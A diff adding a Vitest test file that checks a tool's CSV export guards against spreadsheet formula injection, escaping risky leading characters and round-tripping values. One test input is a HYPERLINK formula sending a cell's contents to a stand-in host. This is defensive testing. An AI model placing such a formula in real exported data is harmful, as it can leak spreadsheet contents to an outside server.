@@ -1,0 +1,32 @@
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { escapeFormula, toCsv, unescapeFormula } from '../src/write/csv.js';
+import { cli, tempDir } from './helpers/cli.js';
+
+describe('CSV formula injection', () => {
+  it('guards every cell a spreadsheet would run as a formula, and no other', () => {
+    expect(toCsv([['=1+1', '+44 7700', '-2', '@SUM(A1)', '\tx', '\rx', 'plain', "'=kept", "it's", 3, -4]])).toBe(
+      `'=1+1,'+44 7700,'-2,'@SUM(A1),'\tx,"'\rx",plain,''=kept,it's,3,-4\n`,
+    );
+  });
+
+  it('undoes the guard exactly, whatever the cell', () => {
+    for (const cell of ['=1', "'=1", "''=1", "'", "'plain", '', '-', "'-", "''", 'a=b']) {
+      expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
+    }
+  });
+
+  it('writes a hostile account harmlessly and reads it back unchanged with grid', () => {
+    const dir = tempDir();
+    const text = '=HYPERLINK("http://x.example/?"&A1,"click")';
+    writeFileSync(join(dir, 'in.csv'), `participant,text,site\n@P1,"${text.replace(/"/g, '""')}",-North\n`);
+    const out = join(dir, 'out');
+    expect(cli(['analyse', join(dir, 'in.csv'), '--out', out, '--unit', 'line']).code).toBe(0);
+    const segments = readFileSync(join(out, 'segments.csv'), 'utf8');
+    expect(segments.split('\n')[1]).toBe(`'@P1,1,0,43,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",,EV,,,,'-North`);
+    expect(readFileSync(join(out, 'participants.csv'), 'utf8')).toContain(`\n'@P1,1,`);
+    const grid = cli(['grid', join(out, 'segments.csv'), '--participant', '@P1']);
+    expect(grid.stdout).toBe(`| Participant @P1 | Theme | Application of Labov |\n| --- | --- | --- |\n| ${text} |  | EV |\n`);
+  });
+});
